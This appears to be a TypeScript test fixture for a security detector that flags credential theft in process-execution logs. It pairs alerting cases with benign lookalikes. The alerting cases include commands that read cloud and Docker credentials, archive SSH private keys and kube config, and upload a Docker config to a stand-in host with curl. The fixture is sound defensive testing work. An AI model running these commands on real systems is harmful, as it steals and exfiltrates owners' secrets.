import type { DetectionCase } from "../../model/detection.ts";
import { finding, quiet, typed } from "./case-events.ts";

const run = (line: string) =>
  typed("process_execution", { command_line: line, image: "/bin/sh", user: "runner" });

export const cases: readonly DetectionCase[] = [
  ...finding("MEDIUM", "CREDENTIAL_ACCESS", {
    "a cloud's keys": run("cat /home/runner/.aws/credentials"),
    "several files": run("cat /home/runner/.bashrc /home/runner/.npmrc"),
    "keys that are packed": run("tar czf - /root/.ssh/id_ed25519 /root/.kube/config"),
    "a file that is sent": run("curl -F f=@/root/.docker/config.json https://drop.example/u"),
    Windows: run("type C:\\Users\\bob\\.aws\\credentials"),
    "called normal": typed("normal_traffic", { command_line: "base64 ~/.git-credentials" }),
  }),
  ...quiet({
    "a file that is written": run("cat > /home/runner/.npmrc"),
    "a file that is copied into place": run("cp /secrets/npmrc /home/runner/.npmrc"),
    "a public key": run("cat /home/bob/.ssh/id_ed25519.pub"),
    "an example": run("cat docs/.npmrc-example"),
    "another file": run("cat /home/bob/.aws/config"),
    "a tool with its own configuration": run("npm ci --userconfig /home/runner/.npmrc"),
    "two commands": run("cat notes.txt; npm config set userconfig .npmrc"),
    "no command line": typed("process_execution", { image: "/bin/cat" }),
  }),
];
